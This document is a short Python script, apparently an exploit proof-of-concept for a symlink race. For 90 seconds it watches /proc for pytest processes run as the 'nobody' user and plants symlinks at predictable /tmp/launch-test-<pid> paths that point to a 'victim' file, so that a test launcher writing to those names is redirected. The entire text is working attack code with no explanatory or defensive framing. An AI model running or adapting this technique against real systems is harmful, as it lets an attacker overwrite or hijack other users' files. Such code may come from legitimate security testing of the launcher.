import os, time
victim = "/tmp/attack52-user-home/ta_victim3"
done = set(); t = time.time()
while time.time() - t < 90:
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in done: continue
        try: cmd = open(f"/proc/{p}/cmdline", "rb").read()
        except OSError: continue
        if b"pytest" in cmd and os.stat(f"/proc/{p}").st_uid == 65534:
            done.add(p)
            for r in (0, 1):
                try: os.symlink(victim, f"/tmp/launch-test-{p}-{r}")
                except OSError: pass
            print("planted for pid", p, flush=True)
    time.sleep(0.05)
